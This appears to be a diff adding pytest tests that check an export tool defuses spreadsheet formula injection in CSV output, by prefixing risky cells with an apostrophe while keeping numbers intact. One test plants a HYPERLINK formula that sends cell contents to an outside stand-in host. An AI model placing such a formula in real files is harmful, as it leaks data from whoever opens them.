@@ -12,6 +12,7 @@ import example_dataset as example
 from briefing_ingest.canonical import dataset_bytes, parse_dataset
 from briefing_ingest.dataset import Dataset, texts
 from briefing_ingest.export import FORMATS, render_html, render_record, render_terminal
+from briefing_ingest.export.folders import _cell
 from briefing_ingest.export.tables import tables
 from commandline import ingest
 
@@ -144,3 +145,61 @@ def test_show_takes_formats(form: str, start: str) -> None:
     run = ingest("show", whole().works[0].id, "--format", form, "--dataset", ROOT / "out")
     assert run.code == 0
     assert run.out.startswith(start)
+
+
+FORMULAS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "- a point",
+    "＝1",
+    "'=1",
+    "''-5x",
+    "-",
+    "-1,2000",
+    "+44 20",
+]
+NUMBERS = ["-5", "+3.2", "-1,200", "-12%", "-1,234,567.89", "5", "+0"]
+PLAIN = ["a=1", " =1", "'tis", "–5", "5-", "", "Leeds", "'5"]
+
+
+@pytest.mark.parametrize("text", FORMULAS + NUMBERS + PLAIN)
+def test_no_cell_of_a_csv_is_a_formula_and_numbers_stay_numbers(text: str) -> None:
+    cell = str(_cell(text))
+    assert cell == (f"'{text}" if text in FORMULAS else text)
+    assert re.sub(r"\A'(?='*[=+\-@\t\r\n＝＋－＠])", "", cell) == text, "as the README says"
+
+
+@pytest.mark.parametrize("form", ["csv", "datapackage"])
+def test_texts_of_sources_reach_no_spreadsheet_as_formulas(form: str) -> None:
+    evil = '=HYPERLINK("https://example.org/?"&A1,"more")'
+    work = example.briefing(title=evil)
+    last = work.blocks[-1].model_copy(update={"text": f"-2+3 {evil}"})
+    work = work.model_copy(update={"title": evil, "blocks": (*work.blocks[:-1], last)})
+    dataset = example.dataset().model_copy(update={"works": (work, *example.dataset().works[1:])})
+    files = FORMATS[form](dataset)
+    cells = [
+        cell
+        for name, content in files.items()
+        if name.endswith(".csv")
+        for row in csv.reader(io.StringIO(content.decode(), newline=""))
+        for cell in row
+    ]
+    assert f"'{evil}" in cells
+    assert f"'-2+3 {evil}" in cells
+    assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r\n") and not re.fullmatch(r"[+-]?[\d.,]+%?", cell)]
+    assert json.dumps(evil, ensure_ascii=False) in FORMATS["jsonl"](dataset)["works.jsonl"].decode()
+    if form == "datapackage":
+        assert "apostrophe" in json.loads(files["datapackage.json"])["description"]
+
+
+def test_parquet_has_the_exact_text() -> None:
+    pyarrow = pytest.importorskip("pyarrow.parquet")
+    dataset = example.dataset()
+    work = dataset.works[0].model_copy(update={"title": "=1+1"})
+    files = FORMATS["parquet"](dataset.model_copy(update={"works": (work, *dataset.works[1:])}))
+    assert pyarrow.read_table(io.BytesIO(files["works.parquet"]))["title"][0].as_py() == "=1+1"
